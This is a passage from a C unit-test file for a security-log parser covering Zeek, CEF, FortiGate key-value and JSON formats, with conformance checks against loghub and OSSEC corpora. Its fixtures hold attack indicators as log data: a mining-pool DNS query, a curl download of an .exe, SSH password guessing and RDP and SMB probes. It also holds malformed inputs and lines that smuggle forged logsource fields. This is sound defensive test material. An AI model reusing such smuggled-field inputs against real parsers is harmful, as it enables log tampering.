    assert_string_equal(sv(ev, "citysoc.logsource.service"), "conn");
    assert_string_equal(sv(ev, "id.orig_h"), "10.1.2.1");   /* Zeek's own names stay for SigmaHQ */
    assert_string_equal(sv(ev, "conn_state"), "SH");
    cs_event_free(ev);

    /* dns.log with _path and an ISO stamp */
    ev = parse(cs_parse_json_line,
               "{\"_path\":\"dns\",\"ts\":\"2026-03-12T08:00:05.000000Z\",\"uid\":\"C1\",\"id.orig_h\":\"10.20.1.31\","
               "\"id.orig_p\":53,\"id.resp_h\":\"207.158.192.40\",\"id.resp_p\":53,\"proto\":\"udp\",\"trans_id\":"
               "25701,\"query\":\"xmr.pool.minexmr.com\",\"qtype_name\":\"A\",\"rcode_name\":\"NOERROR\",\"answers\":"
               "[\"206.109.64.186\",\"216.1.205.81\"],\"TTLs\":[900.0,900.0],\"rejected\":false}");
    assert_int_equal(ev->ts_us, T0 + 5000000);
    assert_string_equal(sv(ev, "dns.question.name"), "xmr.pool.minexmr.com");
    assert_string_equal(sv(ev, "dns.question.type"), "A");
    assert_string_equal(sv(ev, "dns.response_code"), "NOERROR");
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "dns");
    assert_int_equal(count(ev, "answers"), 2);
    cs_event_free(ev);

    /* http.log, path inferred */
    ev = parse(cs_parse_json_line,
               "{\"ts\":1773302406,\"uid\":\"C2\",\"id.orig_h\":\"128.2.6.136\",\"id.orig_p\":46562,\"id.resp_h\":"
               "\"173.194.75.103\",\"id.resp_p\":80,\"trans_depth\":1,\"method\":\"GET\",\"host\":\"www.example.tk\","
               "\"uri\":\"/dl/invoice.exe?x=1\",\"version\":\"1.1\",\"user_agent\":\"curl/8\",\"request_body_len\":0,"
               "\"response_body_len\":962,\"status_code\":200,\"status_msg\":\"OK\",\"tags\":[]}");
    assert_int_equal(ev->ts_us, T0 + 6000000);
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "http");
    assert_string_equal(sv(ev, "http.request.method"), "GET");
    assert_string_equal(sv(ev, "url.domain"), "www.example.tk");
    assert_string_equal(sv(ev, "url.original"), "/dl/invoice.exe?x=1");
    assert_string_equal(sv(ev, "url.path"), "/dl/invoice.exe");
    assert_string_equal(sv(ev, "http.version"), "1.1");
    assert_int_equal(iv(ev, "http.response.status_code"), 200);
    assert_int_equal(iv(ev, "http.response.body.bytes"), 962);
    assert_string_equal(sv(ev, "user_agent.original"), "curl/8");
    cs_event_free(ev);

    /* ssl.log: Zeek's version name becomes the packet sensor's */
    ev = parse(cs_parse_json_line,
               "{\"ts\":1773302407.0,\"uid\":\"C3\",\"id.orig_h\":\"10.0.0.1\",\"id.orig_p\":50000,\"id.resp_h\":"
               "\"10.0.0.2\",\"id.resp_p\":443,\"version\":\"TLSv13\",\"cipher\":\"TLS_AES_128_GCM_SHA256\","
               "\"server_name\":\"portal.city.example\",\"resumed\":false,\"established\":true}");
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "ssl");
    assert_string_equal(sv(ev, "tls.version"), "1.3");
    assert_string_equal(sv(ev, "tls.client.server_name"), "portal.city.example");
    assert_string_equal(sv(ev, "tls.cipher"), "TLS_AES_128_GCM_SHA256");
    cs_event_free(ev);

    /* notice.log: the message is Zeek's */
    ev = parse(cs_parse_json_line,
               "{\"ts\":1773302408.0,\"_path\":\"notice\",\"note\":\"SSH::Password_Guessing\",\"msg\":\"192.168.56.1 "
               "appears to be guessing SSH passwords (seen in 10 connections).\",\"src\":\"192.168.56.1\"}");
    assert_string_equal(sv(ev, "rule.name"), "SSH::Password_Guessing");
    assert_contains(sv(ev, "message"), "guessing SSH passwords");
    assert_string_equal(sv(ev, "event.category"), "intrusion_detection");
    cs_event_free(ev);
}

static void test_json_other_and_hostile(void **state)
{
    cs_event *ev;
    cs_log_ctx withfile = ctx0;
    (void)state;
    /* plain JSON: kept as is, time from the usual keys */
    ev = parse(cs_parse_json_line, "{\"time\":\"2026-03-12T09:00:00+01:00\",\"app\":{\"user\":\"x\"},\"n\":3}");
    assert_int_equal(ev->ts_us, T0);
    assert_string_equal(sv(ev, "app.user"), "x");
    assert_int_equal(iv(ev, "n"), 3);
    assert_false(has(ev, "citysoc.logsource.product"));
    cs_event_free(ev);
    ev = parse(cs_parse_json_line, "{\"timestamp\":1773302400123,\"a\":1}");
    assert_int_equal(ev->ts_us, T0 + 123000);
    cs_event_free(ev);
    ev = parse(cs_parse_json_line, "{\"@timestamp\":\"2026-03-12T08:00:00.5Z\",\"a\":1}");
    assert_int_equal(ev->ts_us, T0 + 500000);
    cs_event_free(ev);
    ev = parse(cs_parse_json_line, "{\"a\":1}");
    assert_int_equal(ev->ts_us, T0);   /* no stamp: received time */
    cs_event_free(ev);

    /* fields the line may not duplicate: one of each */
    withfile.file_path = "/var/log/app.json";
    {
        const char *l = "{\"event\":{\"created\":\"2020-01-01T00:00:00Z\"},\"citysoc\":{\"log\":{\"format\":"
                        "\"access\"}},\"log\":{\"file\":{\"path\":\"/elsewhere\"}}}";
        assert_int_equal(cs_parse_json_line(l, strlen(l), &withfile, &ev), CS_OK);
        assert_int_equal(count(ev, "event.created"), 1);
        assert_int_equal(count(ev, "citysoc.log.format"), 1);
        assert_int_equal(count(ev, "log.file.path"), 1);
        assert_string_equal(sv(ev, "log.file.path"), "/var/log/app.json");
        cs_event_free(ev);
    }

    {
        static const char *const bad[] = {
            "", "{", "[1,2,3]", "42", "{\"a\":", "{\"@timestamp\":12}", "not json at all", "{\"a\":\"\xff\xfe\"}",
            "{\"a\":1}}", "{\"a\":\"unterminated}",
        };
        for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
            ev = parse(cs_parse_json_line, bad[i]);
            check_common(ev, bad[i], strlen(bad[i]), "json");
            assert_true(unparsed(ev));
            assert_string_equal(sv(ev, "message"), bad[i]);
            assert_non_null(sv(ev, "error.message"));
            cs_event_free(ev);
        }
    }
    {
        /* nesting beyond the reader's limit, and more keys than an event holds */
        char *deep = malloc(200 * 6 + 16);
        char *wide = malloc(5000 * 16 + 16);
        size_t n = 0;
        assert_non_null(deep);
        assert_non_null(wide);
        for (int i = 0; i < 200; i++) {
            memcpy(deep + n, "{\"a\":", 5);
            n += 5;
        }
        deep[n++] = '1';
        memset(deep + n, '}', 200);
        n += 200;
        deep[n] = '\0';
        ev = parse(cs_parse_json_line, deep);
        assert_true(unparsed(ev));
        cs_event_free(ev);
        n = 0;
        wide[n++] = '[';
        for (int i = 0; i < 5000; i++) {
            n += (size_t)snprintf(wide + n, 16, "%s%d", i ? "," : "", i);
        }
        wide[n++] = ']';
        wide[n] = '\0';
        {
            /* {"a":[0,1,...]} : 5000 values of one key */
            char *obj = malloc(n + 16);
            assert_non_null(obj);
            snprintf(obj, n + 16, "{\"a\":%s}", wide);
            ev = parse(cs_parse_json_line, obj);
            check_common(ev, obj, strlen(obj), "json");
            assert_true(unparsed(ev));
            assert_contains(sv(ev, "error.message"), "fields");
            cs_event_free(ev);
            free(obj);
        }
        free(deep);
        free(wide);
    }
}

/* -------------------------------------------------------------- CEF --- */

static void test_cef(void **state)
{
    const char *line = "CEF:0|Security\\|Vendor|Threat Manager|1.0|100|worm successfully stopped|10|src=10.0.0.1 "
                       "dst=2.1.2.2 spt=1232 dpt=445 proto=TCP suser=alice duser=bob act=blocked request=https://"
                       "portal.city.example/a?b=1 requestMethod=POST msg=Detected a threat. No action needed. "
                       "cs1Label=Rule Name cs1=Block SMB cn1Label=Hits cn1=3 rt=1773302403000 fname=a\\=b\\\\c.exe "
                       "cs2=line1\\nline2";
    cs_event *ev = parse(cs_parse_cef, line);
    char ip[64];
    (void)state;
    check_common(ev, line, strlen(line), "cef");
    assert_false(unparsed(ev));
    assert_int_equal(ev->ts_us, T0 + 3000000);
    assert_string_equal(sv(ev, "observer.vendor"), "Security|Vendor");
    assert_string_equal(sv(ev, "observer.product"), "Threat Manager");
    assert_string_equal(sv(ev, "observer.version"), "1.0");
    assert_string_equal(sv(ev, "cef.version"), "0");
    assert_string_equal(sv(ev, "rule.id"), "100");
    assert_string_equal(sv(ev, "rule.name"), "worm successfully stopped");
    assert_int_equal(iv(ev, "event.severity"), 10);
    assert_string_equal(ipv(ev, "source.ip", ip), "10.0.0.1");
    assert_string_equal(ipv(ev, "destination.ip", ip), "2.1.2.2");
    assert_int_equal(iv(ev, "source.port"), 1232);
    assert_int_equal(iv(ev, "destination.port"), 445);
    assert_string_equal(sv(ev, "network.transport"), "tcp");
    assert_string_equal(sv(ev, "user.name"), "alice");
    assert_string_equal(sv(ev, "user.target.name"), "bob");
    assert_string_equal(sv(ev, "event.action"), "blocked");
    assert_string_equal(sv(ev, "url.original"), "https://portal.city.example/a?b=1");
    assert_string_equal(sv(ev, "url.path"), "/a");
    assert_string_equal(sv(ev, "url.query"), "b=1");
    assert_string_equal(sv(ev, "http.request.method"), "POST");
    assert_string_equal(sv(ev, "message"), "Detected a threat. No action needed.");
    /* every extension key under its own name, unescaped */
    assert_string_equal(sv(ev, "src"), "10.0.0.1");
    assert_string_equal(sv(ev, "msg"), "Detected a threat. No action needed.");
    assert_string_equal(sv(ev, "cs1Label"), "Rule Name");
    assert_string_equal(sv(ev, "cs1"), "Block SMB");
    assert_string_equal(sv(ev, "fname"), "a=b\\c.exe");
    assert_string_equal(sv(ev, "file.name"), "a=b\\c.exe");
    assert_string_equal(sv(ev, "cs2"), "line1\nline2");
    assert_string_equal(sv(ev, "rt"), "1773302403000");
    /* custom fields by their label */
    assert_string_equal(sv(ev, "cef.custom.Rule_Name"), "Block SMB");
    assert_string_equal(sv(ev, "cef.custom.Hits"), "3");
    assert_false(has(ev, "citysoc.logsource.product"));
    cs_event_free(ev);
}

static void test_cef_variants(void **state)
{
    cs_event *ev;
    char ip[64];
    (void)state;
    /* behind a syslog header; word severity; date stamps */
    ev = parse(cs_parse_cef, "<134>Mar 12 08:00:00 fw01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic|Low|"
                             "src=192.168.1.5 dst=8.8.8.8 act=deny rt=Mar 12 2026 08:14:03.250 UTC");
    assert_false(unparsed(ev));
    assert_string_equal(sv(ev, "observer.vendor"), "Fortinet");
    assert_int_equal(iv(ev, "event.severity"), 3);
    assert_string_equal(sv(ev, "cef.severity"), "Low");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 8, 14, 3) * 1000000 + 250000);
    assert_string_equal(sv(ev, "rt"), "Mar 12 2026 08:14:03.250 UTC");
    assert_string_equal(ipv(ev, "destination.ip", ip), "8.8.8.8");
    cs_event_free(ev);
    /* no year: the one that keeps it before the reference; "+02:00" zone */
    ev = parse(cs_parse_cef, "CEF:0|V|P|1|1|n|5|rt=Mar 12 10:14:03 +02:00 duser=carol");
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 8, 14, 3) * 1000000);
    assert_string_equal(sv(ev, "user.name"), "carol");   /* duser alone is the user */
    cs_event_free(ev);
    /* no extension at all, with and without the last pipe */
    ev = parse(cs_parse_cef, "CEF:0|V|P|1|42|name|7|");
    assert_false(unparsed(ev));
    assert_string_equal(sv(ev, "rule.id"), "42");
    assert_int_equal(iv(ev, "event.severity"), 7);
    cs_event_free(ev);
    ev = parse(cs_parse_cef, "CEF:0|V|P|1|42|name|Very-High");
    assert_false(unparsed(ev));
    assert_int_equal(iv(ev, "event.severity"), 10);
    cs_event_free(ev);
    /* '=' unescaped inside a value, trailing spaces, forged logsource ignored */
    ev = parse(cs_parse_cef, "CEF:0|V|P|1|1|n|5|request=/a?b=c&d=e  citysoc.logsource.category=webserver  ");
    assert_string_equal(sv(ev, "request"), "/a?b=c&d=e");
    assert_false(has(ev, "citysoc.logsource.category"));
    cs_event_free(ev);

    {
        static const char *const bad[] = {
            "", "CEF:", "CEF:0|a|b", "CEF:0|a|b|c|d|e", "no cef here", "CEF:0|a|b|c|d|e|f|g=\\",
            "CEF:0|a|b|c|d|e|f|=x", "CEF:0|a|b|c|d|e|f|k=", "CEF:0|a|b|c|d|e|f| = = =", "CEF:0|\\|\\|\\|\\|",
            "CEF:0|a|b|c|d|e|f|src=999.1.1.1 spt=99999 rt=garbage start=Feb 31 2026 99:00:00",
        };
        for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
            ev = parse(cs_parse_cef, bad[i]);
            check_common(ev, bad[i], strlen(bad[i]), "cef");
            cs_event_free(ev);
        }
        ev = parse(cs_parse_cef, "CEF:0|a|b");
        assert_true(unparsed(ev));
        cs_event_free(ev);
    }
    {
        /* 1000 extension keys: the first 512 are fields, the line is whole */
        size_t cap = 1000 * 16 + 64, n;
        char *l = malloc(cap);
        assert_non_null(l);
        n = (size_t)snprintf(l, cap, "CEF:0|V|P|1|1|n|5|");
        for (int i = 0; i < 1000; i++) {
            n += (size_t)snprintf(l + n, cap - n, "k%d=v%d ", i, i);
        }
        ev = parse(cs_parse_cef, l);
        check_common(ev, l, n, "cef");
        assert_string_equal(sv(ev, "k511"), "v511");
        assert_false(has(ev, "k999"));
        cs_event_free(ev);
        free(l);
    }
}

/* --------------------------------------------------------------- KV --- */

static void test_kv_fortigate(void **state)
{
    const char *line = "date=2026-03-12 time=09:14:03 devname=\"FGT-CITY\" devid=\"FG100ETK18000000\" logid="
                       "\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" tz=\"+0100\" "
                       "srcip=203.0.113.45 srcport=51514 srcintf=\"wan1\" dstip=10.20.1.5 dstport=3389 dstintf="
                       "\"lan\" proto=6 action=\"deny\" policyid=12 policyname=\"block-rdp\" service=\"RDP\" "
                       "sentbyte=0 rcvdbyte=0 msg='a \\'quoted\\' note'";
    cs_event *ev = parse(cs_parse_kv, line);
    char ip[64];
    (void)state;
    check_common(ev, line, strlen(line), "kv");
    assert_false(unparsed(ev));
    assert_int_equal(ev->ts_us, cs_time_from_civil(2026, 3, 12, 8, 14, 3) * 1000000);
    assert_string_equal(ipv(ev, "source.ip", ip), "203.0.113.45");
    assert_string_equal(ipv(ev, "destination.ip", ip), "10.20.1.5");
    assert_int_equal(iv(ev, "source.port"), 51514);
    assert_int_equal(iv(ev, "destination.port"), 3389);
    assert_string_equal(sv(ev, "network.transport"), "tcp");
    assert_string_equal(sv(ev, "event.action"), "deny");
    assert_string_equal(sv(ev, "observer.name"), "FGT-CITY");
    assert_string_equal(sv(ev, "rule.name"), "block-rdp");
    assert_string_equal(sv(ev, "message"), "a 'quoted' note");
    /* own names, unquoted */
    assert_string_equal(sv(ev, "devname"), "FGT-CITY");
    assert_string_equal(sv(ev, "srcip"), "203.0.113.45");
    assert_string_equal(sv(ev, "service"), "RDP");
    assert_string_equal(sv(ev, "msg"), "a 'quoted' note");
    /* SigmaHQ firewall names */
    assert_string_equal(ipv(ev, "src_ip", ip), "203.0.113.45");
    assert_string_equal(ipv(ev, "dst_ip", ip), "10.20.1.5");
    assert_int_equal(iv(ev, "dst_port"), 3389);
    assert_int_equal(count(ev, "action"), 1);
    assert_string_equal(sv(ev, "citysoc.logsource.category"), "firewall");
    assert_string_equal(sv(ev, "citysoc.logsource.product"), "fortigate");
    assert_string_equal(sv(ev, "citysoc.logsource.service"), "traffic");
    cs_event_free(ev);
}

static void test_kv_variants(void **state)
{
    cs_event *ev;
    char ip[64];
    (void)state;
    /* syslog header before the pairs, uppercase aliases, bare flags, empty value */
    ev = parse(cs_parse_kv, "Mar 12 08:00:00 gw kernel: IN=eth0 OUT= SRC=198.51.100.1 DST=10.0.0.2 PROTO=UDP SPT=53 "
                            "DPT=40000 SYN act=drop eventtime=1773302400000000000");
    assert_int_equal(ev->ts_us, T0);
    assert_string_equal(sv(ev, "OUT"), "");
    assert_string_equal(ipv(ev, "source.ip", ip), "198.51.100.1");
    assert_string_equal(sv(ev, "network.transport"), "udp");
    assert_int_equal(iv(ev, "src_port"), 53);
    assert_string_equal(sv(ev, "action"), "drop");   /* from act */
    assert_string_equal(sv(ev, "citysoc.logsource.category"), "firewall");
    assert_false(has(ev, "citysoc.logsource.product"));
    cs_event_free(ev);
    /* no action: not a firewall record */
    ev = parse(cs_parse_kv, "user=alice src=10.0.0.1 status=ok");
    assert_string_equal(sv(ev, "user.name"), "alice");
    assert_false(has(ev, "citysoc.logsource.category"));
    assert_false(has(ev, "src_ip"));
    cs_event_free(ev);
    /* a canonical typed key stays typed; forged logsource ignored */
    ev = parse(cs_parse_kv, "source.port=22 citysoc.logsource.product=linux x=\"a \\\"b\\\" c\" y='unterminated");
    assert_int_equal(iv(ev, "source.port"), 22);
    assert_false(has(ev, "citysoc.logsource.product"));
    assert_string_equal(sv(ev, "x"), "a \"b\" c");
    assert_string_equal(sv(ev, "y"), "unterminated");
    cs_event_free(ev);

    {
        static const char *const bad[] = {
            "", "no pairs here", "=", "==", "= = =", "k=\"", "k='\\", "\"k=v\"", "k=\\\"", " \t ",
            "date=2026-13-45 time=99:99:99 eventtime=abc timestamp=xyz",
        };
        for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
            ev = parse(cs_parse_kv, bad[i]);
            check_common(ev, bad[i], strlen(bad[i]), "kv");
            cs_event_free(ev);
        }
        ev = parse(cs_parse_kv, "no pairs here");
        assert_true(unparsed(ev));
        assert_string_equal(sv(ev, "message"), "no pairs here");
        cs_event_free(ev);
    }
    {
        /* a key of 65 bytes is not a key; 300 pairs: the first 256 are read */
        char key[80];
        size_t cap = 300 * 16 + 128, n = 0;
        char *l = malloc(cap);
        memset(key, 'k', 65);
        key[65] = '\0';
        assert_non_null(l);
        n += (size_t)snprintf(l, cap, "%s=1 ", key);
        for (int i = 0; i < 300; i++) {
            n += (size_t)snprintf(l + n, cap - n, "kk%d=%d ", i, i);
        }
        ev = parse(cs_parse_kv, l);
        check_common(ev, l, n, "kv");
        assert_false(has(ev, key));
        assert_string_equal(sv(ev, "kk255"), "255");
        assert_false(has(ev, "kk256"));
        cs_event_free(ev);
        free(l);
    }
}

/* ------------------------------------------------------ conformance --- */

/* One CSV record (RFC 4180: quotes, "" escapes, embedded newlines). */
static bool csv_record(const char **p, const char *end, char **fields, size_t maxf, size_t *nf, char *buf)
{
    const char *s = *p;
    size_t w = 0;
    *nf = 0;
    if (s >= end) {
        return false;
    }
    for (;;) {
        bool quoted = s < end && *s == '"';
        fields[(*nf)++] = buf + w;
        if (quoted) {
            s++;
            while (s < end) {
                if (*s == '"' && s + 1 < end && s[1] == '"') {
                    buf[w++] = '"';
                    s += 2;
                } else if (*s == '"') {
                    s++;
                    break;
                } else {
                    buf[w++] = *s++;
                }
            }
        }
        while (s < end && *s != ',' && *s != '\n' && *s != '\r') {
            buf[w++] = *s++;
        }
        buf[w++] = '\0';
        if (s < end && *s == ',' && *nf < maxf) {
            s++;
            continue;
        }
        while (s < end && *s != '\n') {
            s++;
        }
        *p = s < end ? s + 1 : end;
        return true;
    }
}

/* "Sun Dec 04 04:47:44 2005" -> UTC microseconds (loghub's Time column). */
static int64_t loghub_time(const char *t)
{
    static const char *const mon = "JanFebMarAprMayJunJulAugSepOctNovDec";
    const char *m = strlen(t) >= 24 ? strstr(mon, (char[4]){t[4], t[5], t[6], 0}) : NULL;
    int d, h, mi, s, y;
    if (m == NULL) {
        return -1;
    }
    d = (t[8] == ' ' ? 0 : t[8] - '0') * 10 + t[9] - '0';
    h = (t[11] - '0') * 10 + t[12] - '0';
    mi = (t[14] - '0') * 10 + t[15] - '0';
    s = (t[17] - '0') * 10 + t[18] - '0';
    y = (t[20] - '0') * 1000 + (t[21] - '0') * 100 + (t[22] - '0') * 10 + t[23] - '0';
    return cs_time_from_civil(y, (int)(m - mon) / 3 + 1, d, h, mi, s) * 1000000;
}

static void test_loghub_apache(void **state)
{
    char path[1024], csvp[1024];
    char *raw, *csv, *buf;
    size_t rawlen, csvlen, total = 0, agree = 0, shown = 0;
    const char *rp, *cp;
    char *f[8];
    size_t nf;
    (void)state;
    snprintf(path, sizeof path, "%s/logs/loghub/Apache/Apache_2k.log", data_dir());
    snprintf(csvp, sizeof csvp, "%s/logs/loghub/Apache/Apache_2k.log_structured.csv", data_dir());
    NEED_DATA(path);
    NEED_DATA(csvp);
    raw = slurp(path, &rawlen);
    csv = slurp(csvp, &csvlen);
    assert_non_null(raw);
    assert_non_null(csv);
    buf = malloc(csvlen + 64);
    assert_non_null(buf);
    rp = raw;
    cp = csv;
    assert_true(csv_record(&cp, csv + csvlen, f, 8, &nf, buf));   /* header */
    assert_true(nf >= 4 && strcmp(f[1], "Time") == 0 && strcmp(f[2], "Level") == 0 && strcmp(f[3], "Content") == 0);
    while (rp < raw + rawlen && csv_record(&cp, csv + csvlen, f, 8, &nf, buf)) {
        const char *nl = memchr(rp, '\n', (size_t)(raw + rawlen - rp));
        size_t len = nl != NULL ? (size_t)(nl - rp) : (size_t)(raw + rawlen - rp);
        cs_event *ev = NULL;
        const char *content, *why = NULL, *msg, *lvl;
        char want_ip[64] = "", ip[64];
        if (len > 0 && rp[len - 1] == '\r') {
            len--;
        }
        assert_true(nf >= 4);
        assert_int_equal(cs_parse_apache_error(rp, len, &ctx0, &ev), CS_OK);
        total++;
        /* loghub keeps "[client X] " in Content; we put X in source.ip */
        content = f[3];
        if (strncmp(content, "[client ", 8) == 0 && strstr(content, "] ") != NULL) {
            const char *e = strstr(content, "] ");
            snprintf(want_ip, sizeof want_ip, "%.*s", (int)(e - content - 8), content + 8);
            content = e + 2;
        }
        msg = sv(ev, "message");
        lvl = sv(ev, "log.level");
        if (unparsed(ev)) {
            why = "unparsed";
        } else if (ev->ts_us != loghub_time(f[1])) {
            why = "time";
        } else if (lvl == NULL || strcmp(lvl, f[2]) != 0) {
            why = "level";
        } else if (msg == NULL || strcmp(msg, content) != 0) {
            why = "content";
        } else if (want_ip[0] != '\0' && strcmp(ipv(ev, "source.ip", ip), want_ip) != 0) {
            why = "client";
        }
        if (why == NULL) {
            agree++;
        } else if (shown++ < 10) {
            printf("  loghub Apache line %s disagrees (%s): %.*s\n", f[0], why, (int)len, rp);
        }
        cs_event_free(ev);
        rp = nl != NULL ? nl + 1 : raw + rawlen;
    }
    printf("loghub Apache_2k: %zu/%zu lines agree with the structured CSV (%.2f%%)\n", agree, total,
           total ? 100.0 * (double)agree / (double)total : 0.0);
    assert_int_equal(total, 2000);
    assert_true(agree * 100 >= total * 99);
    free(buf);
    free(raw);
    free(csv);
}

/* Calls fn(line) for every "log N pass|fail = <line>" of an OSSEC test file. */
static size_t ossec_lines(const char *file, void (*fn)(const char *line, size_t len, void *ud), void *ud)
{
    char path[1024];
    char *txt;
    size_t n, seen = 0;
    const char *p;
    snprintf(path, sizeof path, "%s/logs/ossec/ossec-testing/%s", data_dir(), file);
    txt = slurp(path, &n);
    if (txt == NULL) {
        return 0;
    }
    for (p = txt; p < txt + n;) {
        const char *nl = memchr(p, '\n', (size_t)(txt + n - p));
        size_t len = nl != NULL ? (size_t)(nl - p) : (size_t)(txt + n - p);
        const char *eq = len > 4 && strncmp(p, "log ", 4) == 0 ? memmem(p, len, " = ", 3) : NULL;
        if (eq != NULL) {
            size_t l = len - (size_t)(eq + 3 - p);
            while (l > 0 && (eq[3 + l - 1] == '\r' || eq[3 + l - 1] == ' ')) {
                l--;
            }
            fn(eq + 3, l, ud);
            seen++;
        }
        p = nl != NULL ? nl + 1 : txt + n;
    }
    free(txt);
    return seen;
}

typedef struct access_tally {
    size_t lines, ok;
} access_tally;

/* Apache/nginx access lines are the ones with "] \"" (IIS W3C lines have no brackets). */
static void check_ossec_access(const char *line, size_t len, void *ud)
{
    access_tally *t = ud;
    cs_event *ev = NULL;
    char ip[64];
    if (memmem(line, len, "] \"", 3) == NULL) {
        return;
    }
    t->lines++;
    assert_int_equal(cs_parse_access(line, len, &ctx0, &ev), CS_OK);
    if (!unparsed(ev) && ipv(ev, "c-ip", ip)[0] != '\0' && has(ev, "cs-method") && has(ev, "url.original") &&
        has(ev, "sc-status")) {
        t->ok++;
    } else {
        printf("  OSSEC access line not fully parsed: %.*s\n", (int)len, line);
    }
    cs_event_free(ev);
}

static void check_ossec_error(const char *line, size_t len, void *ud)
{
    access_tally *t = ud;
    cs_event *ev = NULL;
    bool nginx = len > 10 && line[4] == '/';
    t->lines++;
    assert_int_equal((nginx ? cs_parse_nginx_error : cs_parse_apache_error)(line, len, &ctx0, &ev), CS_OK);
    if (!unparsed(ev) && has(ev, "log.level") && has(ev, "message")) {
        t->ok++;
    } else {
        printf("  OSSEC error-log line not parsed: %.*s\n", (int)len, line);
    }
    cs_event_free(ev);
}

static void test_ossec_web(void **state)
{
    static const char *const access_files[] = {"web_rules.ini", "web_appsec.ini", "openbsd-httpd.ini"};
    static const char *const error_files[] = {"apache.ini", "nginx.ini"};
    char dir[1024];
    access_tally a = {0, 0}, e = {0, 0};
    (void)state;
    snprintf(dir, sizeof dir, "%s/logs/ossec/ossec-testing", data_dir());
    NEED_DATA(dir);
    for (size_t i = 0; i < sizeof access_files / sizeof access_files[0]; i++) {
        ossec_lines(access_files[i], check_ossec_access, &a);
    }
    for (size_t i = 0; i < sizeof error_files / sizeof error_files[0]; i++) {
        ossec_lines(error_files[i], check_ossec_error, &e);
    }
    printf("OSSEC access-log lines: %zu/%zu with client IP, method, URL and status\n", a.ok, a.lines);
    printf("OSSEC Apache/nginx error-log lines: %zu/%zu parsed\n", e.ok, e.lines);
    assert_true(a.lines >= 30);
    assert_int_equal(a.ok, a.lines);
    assert_true(e.lines >= 20);
    assert_int_equal(e.ok, e.lines);
}

/* Zeek TSV baselines, re-emitted as Zeek's JSON writer would (no _path,
 * epoch ts, typed values, unset fields left out), then parsed. */
static char *zeek_unescape(const char *s, char *out)
{
    size_t w = 0;
    for (size_t i = 0; s[i] != '\0'; i++) {
        if (s[i] == '\\' && s[i + 1] == 'x' && s[i + 2] != '\0' && s[i + 3] != '\0') {
            char hex[3] = {s[i + 2], s[i + 3], 0};
            out[w++] = (char)strtol(hex, NULL, 16);
            i += 3;
        } else {
            out[w++] = s[i];
        }
    }
    out[w] = '\0';
    return out;
}

static json_t *zeek_value(const char *type, const char *v, char *tmp)
{
    if (strncmp(type, "set[", 4) == 0 || strncmp(type, "vector[", 7) == 0) {
        json_t *a = json_array();
        const char *p = v;
        if (strcmp(v, "(empty)") == 0) {
            return a;
        }
        while (*p != '\0') {
            const char *c = strchr(p, ',');
            size_t n = c != NULL ? (size_t)(c - p) : strlen(p);
            char item[4096];
            snprintf(item, sizeof item, "%.*s", (int)n, p);
            json_array_append_new(a, json_string(zeek_unescape(item, tmp)));
            p += n + (c != NULL);
        }
        return a;
    }
    if (strcmp(type, "time") == 0) {
        return json_real(1773302400.5);   /* btest masks stamps as XXXXXXXXXX.XXXXXX */
    }
    if (strcmp(type, "port") == 0 || strcmp(type, "count") == 0 || strcmp(type, "int") == 0) {
        return json_integer(strtoll(v, NULL, 10));
    }
    if (strcmp(type, "interval") == 0 || strcmp(type, "double") == 0) {
        return json_real(strtod(v, NULL));
    }
    if (strcmp(type, "bool") == 0) {
        return json_boolean(v[0] == 'T');
    }
    return json_string(zeek_unescape(v, tmp));
}

typedef struct zeek_tally {
    size_t records, ok;
} zeek_tally;

static const char *col(char **names, char **vals, size_t n, const char *name)
{
    for (size_t i = 0; i < n; i++) {
        if (strcmp(names[i], name) == 0) {
            return strcmp(vals[i], "-") == 0 ? NULL : vals[i];
        }
    }
    return NULL;
}

static void zeek_log(const char *test, const char *log, zeek_tally *t)
{
    char path[1024], logpath[64] = "";
    char *txt, *line, *save = NULL;
    size_t n;
    char *names[128], *types[128];
    size_t nn = 0, nt = 0;
    snprintf(path, sizeof path, "%s/zeek/%s/%s", data_dir(), test, log);
    txt = slurp(path, &n);
    if (txt == NULL) {
        printf("  (no %s)\n", path);
        return;
    }
    for (line = strtok_r(txt, "\n", &save); line != NULL; line = strtok_r(NULL, "\n", &save)) {
        char *vals[128], *tok, *s2 = NULL;
        size_t nv = 0;
        if (strncmp(line, "#path\t", 6) == 0) {
            snprintf(logpath, sizeof logpath, "%s", line + 6);
        } else if (strncmp(line, "#fields\t", 8) == 0) {
            for (tok = strtok_r(line + 8, "\t", &s2); tok != NULL && nn < 128; tok = strtok_r(NULL, "\t", &s2)) {
                names[nn++] = tok;
            }
        } else if (strncmp(line, "#types\t", 7) == 0) {
            for (tok = strtok_r(line + 7, "\t", &s2); tok != NULL && nt < 128; tok = strtok_r(NULL, "\t", &s2)) {
                types[nt++] = tok;
            }
        } else if (line[0] != '#' && nn > 0 && nn == nt) {
            json_t *obj = json_object();
            char *js, tmp[4096];
            cs_event *ev = NULL;
            const char *v, *bad = NULL;
            char ip[64];
            for (tok = line; nv < 128;) {
                char *tab = strchr(tok, '\t');
                vals[nv++] = tok;
                if (tab == NULL) {
                    break;
                }
                *tab = '\0';
                tok = tab + 1;
            }
            assert_int_equal(nv, nn);
            for (size_t i = 0; i < nn; i++) {
                if (strcmp(vals[i], "-") != 0) {
                    json_object_set_new(obj, names[i], zeek_value(types[i], vals[i], tmp));
                }
            }
            js = json_dumps(obj, JSON_COMPACT);
            json_decref(obj);
            assert_non_null(js);
            assert_int_equal(cs_parse_json_line(js, strlen(js), &ctx0, &ev), CS_OK);
            t->records++;
            if (unparsed(ev)) {
                bad = "unparsed";
            } else if (ev->ts_us != T0 + 500000) {
                bad = "ts";
            } else if (sv(ev, "citysoc.logsource.service") == NULL ||
                       strcmp(sv(ev, "citysoc.logsource.service"), logpath) != 0) {
                bad = "log path";
            } else if ((v = col(names, vals, nn, "id.orig_h")) != NULL && strcmp(ipv(ev, "source.ip", ip), v) != 0) {
                bad = "source.ip";
            } else if ((v = col(names, vals, nn, "id.resp_h")) != NULL &&
                       strcmp(ipv(ev, "destination.ip", ip), v) != 0) {
                bad = "destination.ip";
